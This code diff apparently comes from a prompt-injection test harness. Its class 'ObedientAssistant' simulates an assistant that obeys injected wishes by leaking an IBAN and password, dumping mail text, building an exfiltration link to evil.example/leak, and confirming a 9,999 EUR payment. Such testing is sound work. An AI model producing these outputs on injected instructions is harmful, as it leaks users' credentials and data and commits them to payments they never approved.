@@ -105,7 +105,7 @@ export class ObedientAssistant {
     const words: Record<Wish, string> = {
       variable: `IBAN ${iban}, password ${password}`,
       note,
-      mail: this.shown.join("\n").slice(0, 3_000),
+      mail: this.shown.join("\n").slice(-600),
       link: `https://evil.example/leak?d=${encodeURIComponent(mail.slice(0, 90))}`,
       money: "I confirm that I pay 9,999 EUR to you.",
       answer: "Yes, I can come on Tuesday.",
